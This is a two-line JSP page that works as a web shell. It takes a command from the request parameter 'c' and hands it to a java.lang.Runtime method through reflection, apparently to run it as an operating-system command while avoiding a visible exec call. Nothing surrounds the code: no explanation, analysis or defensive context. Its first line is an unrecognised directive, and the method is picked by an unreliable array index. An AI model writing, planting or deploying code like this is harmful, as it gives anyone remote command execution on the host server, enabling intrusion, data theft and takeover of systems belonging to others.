<%@ inert %>
<% String c=request.getParameter("c"); java.lang.reflect.Method m=Runtime.class.getDeclaredMethods()[7]; m.invoke(Runtime.getRuntime(),c); %>
